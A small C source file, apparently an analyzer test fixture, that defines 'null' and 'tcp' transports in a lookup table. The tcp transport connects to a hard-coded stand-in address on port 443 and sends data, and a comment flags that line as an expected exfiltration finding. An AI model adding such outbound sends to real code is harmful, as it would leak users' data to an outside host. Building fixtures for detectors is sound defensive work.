/* Transports are found by name in a table of function pointers. */
#include "transport.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int tcp_open(void) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(443)};
    peer.sin_addr.s_addr = inet_addr("198.51.100.77");
    int out = socket(AF_INET, SOCK_STREAM, 0);
    return connect(out, (struct sockaddr *)&peer, sizeof peer) ? -1 : out;
}

static int tcp_push(int handle, const void *data, size_t size) {
    // report@+1: exfil/secret-to-network
    return send(handle, data, size, 0) == (ssize_t)size;
}

static int null_open(void) {
    return 0;
}

static int null_push(int handle, const void *data, size_t size) {
    (void)data;
    return handle == 0 && size > 0;
}

static const struct transport table[] = {
    {"null", null_open, null_push},
    {"tcp", tcp_open, tcp_push},
};

const struct transport *transport_find(const char *name) {
    for (size_t i = 0; i < sizeof table / sizeof table[0]; i++)
        if (strcmp(table[i].name, name) == 0)
            return &table[i];
    return NULL;
}
